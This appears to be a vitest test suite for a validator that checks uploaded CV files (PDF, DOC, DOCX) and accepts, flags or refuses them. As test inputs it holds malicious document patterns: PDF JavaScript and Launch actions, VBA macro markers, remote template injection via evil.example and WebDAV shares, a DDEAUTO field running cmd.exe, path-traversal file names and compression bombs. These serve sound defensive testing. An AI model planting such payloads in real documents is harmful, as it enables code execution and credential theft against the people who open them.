import fc from "fast-check";
import { deflateRawSync, deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { checkCvFile } from "./cv-file.ts";
import {
  docx,
  docxWithField,
  docxWithRelationship,
  join,
  ole,
  oleWithFlags,
  pdf,
  pdfWithObject,
  pdfWithStream,
  relationshipType,
  zip,
} from "./cv-test-files.ts";

const mostBytes = 5 * 1024 * 1024;
const script = "<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>";
const xml = (content: string | Uint8Array, more: object = {}) =>
  docx({ name: "word/header1.xml", content, method: 8, ...more });
const external = (type: string, target: string) =>
  docxWithRelationship(`${relationshipType(type)} Target="${target}" TargetMode="External"`);
const blank = " ".repeat(9e6);
const utf8 = (text: string) => new TextEncoder().encode(text);

describe("R-VAL-08: accepted, with what staff should know", () => {
  test.each([
    ["CV.PDF", pdf(), []],
    ["as large as may be.pdf", filled(pdf().subarray(0, 9), utf8(" "), pdf()), []],
    ["a link.pdf", pdfWithObject("<</A<</S/URI/URI(https://example.com)>>>>"), []],
    ["a page about scripts.pdf", pdfWithStream("/Filter/FlateDecode", deflateSync("(/JavaScript) Tj")), []],
    ["outlines.pdf", pdfWithStream("/X<</First 5 0 R>>>>endobj 5 0 obj<<", utf8("x")), []],
    ["an attachment.pdf", pdfWithObject("<</Names<</EmbeddedFiles 2 0 R>>>>"), ["embedded-file"]],
    ["a link into another file.pdf", pdf("<</S/GoToR/F(a.pdf)>>"), ["remote-content"]],
    ["an owner's password.pdf", pdf("trailer<</Encrypt 5 0 R>>"), ["encrypted"]],
    ["another filter.pdf", pdfWithStream("/First 4/Filter/LZWDecode", utf8("x")), ["partly-checked"]],
    ["a predictor.pdf", pdfWithObject("<<>>", "/First 4/DecodeParms<</Predictor 15>>"), ["partly-checked"]],
    ["a bomb.pdf", pdfWithStream("/First 4/Filter/FlateDecode", deflateSync(blank)), ["partly-checked"]],
    ["cv.doc", oleWithFlags(0xfeff, "WordDocument"), []],
    ["a formula.doc", ole("WordDocument", "Equation Native"), ["embedded-object"]],
    ["cv.docx", docx(), []],
    ["a picture.docx", docx({ name: "word/media/a.png", content: "PNG", method: 8 }), []],
    ["a link.docx", external("hyperlink", "https://example.com/ana"), []],
    ["a template on a disk.docx", external("attachedTemplate", "file:///C:\\Users\\Ana\\CV.dotx"), []],
    ["a template on a Mac.docx", external("attachedTemplate", "file:///Users/ana/CV.dotx"), []],
    ["a template's name.docx", external("attachedTemplate", "Normal.dotm"), []],
    ["a template in the office.docx", external("attachedTemplate", "\\\\NAS\\CV.dotx"), ["remote-content"]],
    ["a picture on the web.docx", external("image", "https://example.com/a.png"), ["remote-content"]],
    ["a chart's table.docx", docx({ name: "word/embeddings/a.xlsx", content: docx() }), ["embedded-file"]],
    ["a formula.docx", docx({ name: "word/o.bin", content: ole("Equation Native") }), ["embedded-object"]],
    ["a link by field.docx", docxWithField(' HYPERLINK "https://example.com/dde auto" '), []],
    ["a text fetched.docx", docxWithField(' INCLUDETEXT "http://example.com/a.docx" '), ["remote-content"]],
    ["text about commands.docx", xml("<w:t>DDEAUTO instrText</w:t>"), []],
    ["a bomb.docx", xml(deflateRawSync(blank), { packed: true, declaredBytes: 9e6 }), ["partly-checked"]],
  ])("%s", (name, bytes, flags) => {
    expect(checkCvFile(name, bytes)).toMatchObject({ ok: true, flags });
  });
});

describe("R-VAL-08: refused for what they do", () => {
  const microsoft = 'Type="http://schemas.microsoft.com/office/2006/relationships';
  test.each([
    ["a script.pdf", pdf(script)],
    ["a script with escapes.pdf", pdf(script.replace("JavaScript", "J#61vaScr#69pt"))],
    ["a script in the middle.pdf", filled(pdf().subarray(0, 9), utf8(" "), pdf(script))],
    ["a script in a compressed object.pdf", pdfWithObject(script)],
    ["a launch.pdf", pdf("<</S/Launch>>")],
    ["a form that sends itself.pdf", pdfWithObject("<</S/SubmitForm>>")],
    ["an XFA form.pdf", pdf("<</AcroForm<</XFA 5 0 R>>>>")],
    ["macros.doc", ole("WordDocument", "Macros/")],
    ["a VBA project.doc", ole("WordDocument", "_VBA_PROJECT")],
    ["a packaged file.doc", ole("WordDocument", "\u0001Ole10Native")],
    ["an ActiveX control.doc", ole("WordDocument", "\u0003OCXNAME")],
    ["macros.docx", docx({ name: "word/vbaProject.bin", content: "x" })],
    ["macros by relationship.docx", docxWithRelationship(`${microsoft}/&#x76;baProject" Target="x.dat"`)],
    [
      "macros by type.docx",
      xml('<Override ContentType="application/vnd.macroEnabled"/>', { name: "a.rels" }),
    ],
    ["a template on the web.docx", external("attachedTemplate", "https://evil.example/t.dotm")],
    ["a template on a share.docx", external("attachedTemplate", "file:///\\\\evil.example\\t\\t.dotm")],
    ["a template by WebDAV.docx", external("attachedTemplate", "\\\\evil@SSL\\DavWWWRoot\\t.dotm")],
    ["an object on the web.docx", external("oleObject", "mhtml:http://evil.example!x")],
    ["another document within.docx", docxWithRelationship(`${relationshipType("aFChunk")} Target="a.mht"`)],
    ["a packaged file.docx", docx({ name: "word/a.bin", content: ole("\u0001Ole10Native"), method: 8 })],
    ["a shortcut.docx", docx({ name: "word/media/image1.lnk", content: "L" })],
    ["a command.docx", docxWithField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ["a command in pieces.docx", docxWithField(" D", "&#68;", "E c:\\\\x")],
    ["a command in one element.docx", xml('<w:fldSimple w:instr=" DDEAUTO x "/>')],
  ])("%s", (name, bytes) => {
    expect(checkCvFile(name, bytes)).toMatchObject({ reason: expect.stringMatching(/macros, scripts/) });
  });
});

describe("R-VAL-08: refused for what they are", () => {
  const unreadable = /not a PDF, DOC or DOCX document/;
  const macro = { name: "word/vbaProject.bin" };
  test.each([
    ["cv.exe", pdf(), /choose a PDF/],
    ["no extension", pdf(), /choose a PDF/],
    ["more than 5 MiB.pdf", new Uint8Array(mostBytes + 1), /larger than 5 MB/],
    ["nothing in it.pdf", new Uint8Array(), unreadable],
    ["DOCX named.pdf", docx(), unreadable],
    ["PDF named.docx", pdf(), unreadable],
    ["PDF named.doc", pdf(), unreadable],
    ["web page.pdf", utf8("<script>alert(1)</script>%%EOF"), unreadable],
    ["cut off.pdf", pdf().subarray(0, 40), unreadable],
    ["spreadsheet.doc", ole("Workbook"), unreadable],
    ["with a password.doc", oleWithFlags(0x0100, "WordDocument"), /password/],
    ["with a password.docx", ole("EncryptedPackage"), /password/],
    ["an encrypted part.docx", xml("x", { flags: 1 }), /password/],
    ["no types.docx", zip([{ name: "word/document.xml" }]), unreadable],
    ["spreadsheet.docx", zip([{ name: "[Content_Types].xml" }, { name: "xl/workbook.xml" }]), unreadable],
    ["a name twice.docx", docx({ name: "WORD/document.xml" }), unreadable],
    ["an unknown method.docx", xml("x", { method: 99 }), unreadable],
    ["a page before the archive.docx", join([utf8("<script>"), docx()]), unreadable],
    ["bytes after its end.docx", join([docx(), utf8("x")]), unreadable],
    ["a part that is not counted.docx", altered(docx(macro), [-14, 2], [-12, 2]), unreadable],
    ["broken.docx", xml("<a/>", { packed: true }), unreadable],
    ["more than declared.docx", xml("<a/>", { declaredBytes: 3 }), unreadable],
    ["UTF-16.docx", xml(utf8("\ufeff<\0a\0/\0>\0")), unreadable],
    ["definitions of its own.docx", xml('<!DOCTYPE a [<!ENTITY d "DDE">]><a/>'), unreadable],
    ["too many parts.docx", docx(...Array.from(Array(1000), (_, part) => ({ name: `${part}` }))), unreadable],
  ])("%s", (name, bytes, reason) => {
    expect(checkCvFile(name, bytes)).toMatchObject({ reason: expect.stringMatching(reason) });
  });
});

test.each([
  ["../../etc/passwd.pdf", "etc-passwd.pdf"],
  ["Ana\u202efdp.exe.pdf", "Ana-fdp.exe.pdf"],
  ["résumé (1).pdf", "re-sume-1.pdf"],
  ["ʻ.pdf", "cv.pdf"],
  [`a${".".repeat(100_000)}a.pdf`, "a.pdf"],
])("a name of any length is made safe", (name, fileName) => {
  expect(checkCvFile(name, pdf())).toMatchObject({ fileName });
});

test("5 MB of anything take little time", () => {
  const pdfOf = (...piece: Uint8Array[]) => filled(pdf().subarray(0, 9), join(piece), pdf());
  const stream = utf8("/First 1>>stream\n");
  const files: [name: string, bytes: Uint8Array][] = [
    ["escaped names.pdf", pdfOf(utf8("/#4a#61"))],
    ["slashes.pdf", pdfOf(utf8("/"))],
    ["small streams.pdf", pdfOf(stream, deflateSync("1 0 2 9 <</A 1>>"), utf8("\nendstream "))],
    ["streams without end.pdf", pdfOf(stream)],
    ["fields.docx", xml("<w:instrText>".repeat(40_000))],
    ["attributes without end.docx", xml(`<w:fldSimple ${"a".repeat(500_000)}`)],
    ["directory.doc", filled(ole("WordDocument"), utf8("V\0B\0"), new Uint8Array())],
  ];
  for (const [name, bytes] of files) {
    const started = process.cpuUsage();
    checkCvFile(name, bytes);
    expect(process.cpuUsage(started).user / 1000, name).toBeLessThan(400);
  }
});

test("no bytes make it throw: real files altered, cut and joined", () => {
  const samples = [pdfWithObject(script), docxWithField(" PAGE "), ole("WordDocument", "Data")];
  const sample = fc.constantFrom(...samples);
  const changes = fc.array(fc.tuple(fc.nat(1500), fc.nat(255)), { maxLength: 6 });
  fc.assert(
    fc.property(sample, sample, changes, fc.nat(1500), (first, second, altering, cut) => {
      const bytes = cut % 2 === 0 ? join([first.subarray(0, cut), second]) : first.slice(0, cut);
      for (const [at, value] of altering) if (at < bytes.length) bytes[at] = value;
      for (const name of ["a.pdf", "a.doc", "a.docx"]) checkCvFile(name, bytes);
    }),
    { numRuns: 3000 },
  );
});

/** A file of the largest size allowed: `piece` repeated between `start` and `end`. */
function filled(start: Uint8Array, piece: Uint8Array, end: Uint8Array): Uint8Array {
  return join([start, Buffer.alloc(mostBytes - start.length - end.length, piece), end]);
}

/** `bytes` with 16 bits written at each offset from its end. */
function altered(bytes: Uint8Array, ...changes: [offset: number, value: number][]): Uint8Array {
  for (const [at, value] of changes) new DataView(bytes.buffer).setUint16(bytes.length + at, value, true);
  return bytes;
}
